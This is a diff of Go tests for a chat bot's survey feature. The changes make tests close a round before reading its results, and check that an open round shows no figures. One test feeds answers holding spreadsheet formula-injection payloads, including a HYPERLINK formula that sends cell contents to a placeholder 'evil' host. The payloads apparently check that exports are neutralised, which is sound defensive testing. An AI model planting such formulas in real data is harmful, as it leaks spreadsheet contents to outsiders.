@@ -165,7 +165,9 @@ func TestCanWantWithheldThenMatrix(t *testing.T) {
 		h.rate(user(a.who), "P1.1", 1, a.can)
 		h.rate(user(a.who), "P1.1", 2, a.want)
 	}
-	res := h.run(h.owner, "pulse results P1")
+	open := text(h.run(h.owner, "pulse results P1"))
+	mustContain(t, "open round", open, h.t("pulse.res.open.anon", "P1.1"))
+	res := h.run(h.owner, "pulse close P1")
 	got := text(res)
 	mustContain(t, "rate", got, h.t("pulse.res.rate", 6, 6, 100))
 	for _, want := range []string{
@@ -202,7 +204,7 @@ func TestPulseSegmentsThreshold(t *testing.T) {
 		h.rate(user(id), "P1.1", 1, 3+i%3)
 	}
 	h.rate(user("UTARGET"), "P1.1", 1, 1)
-	got := text(h.run(h.owner, "pulse results P1"))
+	got := text(h.run(h.owner, "pulse close P1"))
 	mustContain(t, "round", got, h.t("pulse.res.n", 7))
 	mustContain(t, "segments", got, h.t("pulse.res.segments")+": "+h.t("pulse.res.seg.merged", 5))
 	if strings.Contains(got, "#general: ") {
@@ -223,7 +225,7 @@ func TestPulseSegmentsThreshold(t *testing.T) {
 	for _, id := range []string{"UE1", "UE2", "UE3", "UE4", "UE5", "UO1", "UO2"} {
 		h.rate(user(id), "P1.1", 1, 0)
 	}
-	got = text(h.run(h.owner, "pulse results P1"))
+	got = text(h.run(h.owner, "pulse close P1"))
 	mustContain(t, "sales", got, "#sales: "+h.t("pulse.res.seg", "eNPS", "+100", 6))
 	mustContain(t, "others", got, h.t("pulse.res.seg.others", "#eng, #ops")+": "+h.t("pulse.res.seg", "eNPS", "-100", 7))
 	if strings.Contains(got, "#eng: ") || strings.Contains(got, "#ops: ") {
@@ -416,8 +418,8 @@ func TestPulseTextAnswersAndSkip(t *testing.T) {
 	h.click(user("UCARLA"), bot.ActionPulseAnswer, "P1.1|2|yes")
 	h.bot.Handle(t.Context(), bot.Request{User: user("UCARLA"),
 		Action: &bot.Action{Name: bot.ActionPulseText, Value: "P1.1|3", Input: `=HYPERLINK("https://evil/?"&A1,"x")`}})
-	// Two texts so far, fewer than the threshold of 3: withheld.
-	mustContain(t, "two texts", text(h.run(h.owner, "pulse results P1")), "3. "+h.t("pulse.tpl.adoption.q3")+": "+h.t("pulse.res.part.withheld", 2, 3))
+	// Open, the round shows no figures: the next answer would tell itself.
+	mustContain(t, "open round", text(h.run(h.owner, "pulse results P1")), h.t("pulse.res.open.anon", "P1.1"))
 	h.rate(user("UDAN"), "P1.1", 1, 3)
 	h.click(user("UDAN"), bot.ActionPulseAnswer, "P1.1|2|yes")
 	h.run(user("UDAN"), "answer P1 3 @SUM(A1:A9)")
@@ -477,7 +479,7 @@ func TestPulseTrendOverRounds(t *testing.T) {
 	h.rate(user("UANNA"), "P1.2", 1, 10)
 	h.rate(user("UBEN"), "P1.2", 1, 9)
 	h.rate(user("UCARLA"), "P1.2", 1, 9)
-	got := text(h.run(h.owner, "pulse results P1"))
+	got := text(h.run(h.owner, "pulse close P1"))
 	mustContain(t, "trend", got, h.t("pulse.res.trend", "eNPS")+": R1: +0 → R2: +100")
 	old := text(h.run(h.owner, "pulse results P1.1"))
 	mustContain(t, "round 1 closed", old, h.t("pulse.res.closed"))
